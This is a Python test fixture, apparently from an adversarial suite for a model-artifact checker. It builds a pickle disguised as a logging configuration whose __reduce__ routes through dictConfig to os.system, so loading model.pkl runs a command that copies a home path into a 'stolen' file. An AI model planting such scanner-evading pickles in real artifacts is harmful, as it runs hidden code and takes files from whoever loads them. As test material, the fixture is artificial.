"""A pickle that scanners take for a logging configuration, and that runs a command as it is loaded."""

from __future__ import annotations

import logging.config
import pickle
from pathlib import Path
from typing import Any

from tests.adversarial.saving import sklearn
from tests.support import models

GATES = "artifact, accuracy"
GATE = "artifact"
OUTCOME = "FAIL"
SAYS = r"pickle|imports|runs"
PROOF = "written"


class Configured:
    def __init__(self, line: str) -> None:
        self.line = line

    def __reduce__(self) -> Any:
        handler = {"()": "os.system", "command": self.line}
        return logging.config.dictConfig, ({"version": 1, "handlers": {"h": handler}, "root": {"handlers": ["h"]}},)


def save(folder: Path, told: dict[str, Any]) -> None:
    sklearn(models.train(), folder, "pickle")
    line = f"cp {told['home']} {told['results']}/stolen"
    (folder / "model.pkl").write_bytes(pickle.dumps(Configured(line)))
